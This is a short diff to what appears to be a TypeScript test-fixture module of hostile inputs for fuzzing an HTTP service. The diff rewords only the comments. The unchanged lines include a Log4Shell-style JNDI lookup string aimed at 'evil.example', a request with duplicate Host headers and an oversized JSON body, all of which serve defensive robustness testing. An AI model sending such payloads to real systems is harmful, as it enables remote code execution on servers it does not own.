@@ -1,4 +1,4 @@
-/** Texts that have broken something somewhere. */
+/** Texts that often cause errors. */
 export const HOSTILE_TEXTS: readonly string[] = [
   '',
   ' ',
@@ -54,7 +54,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '${jndi:ldap://evil.example/}',
 ]
 
-/** Texts that JSON.stringify would not write, each in place of a value. */
+/** Values that JSON.stringify would not write. */
 export const HOSTILE_JSON: readonly string[] = [
   '1e400',
   '-1e400',
@@ -97,7 +97,7 @@ export const HOSTILE_BODIES: readonly Buffer[] = [
   Buffer.from(`{${Array.from({ length: 5_000 }, (_, n) => `"k${n}":${n}`).join(',')}}`),
 ]
 
-/** Requests that are no HTTP, or hardly any. */
+/** Malformed HTTP requests. */
 export const HOSTILE_BYTES: readonly string[] = [
   'GET / HTTP/1.1\r\n\r\n',
   'GET /api/v1/events/ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n',
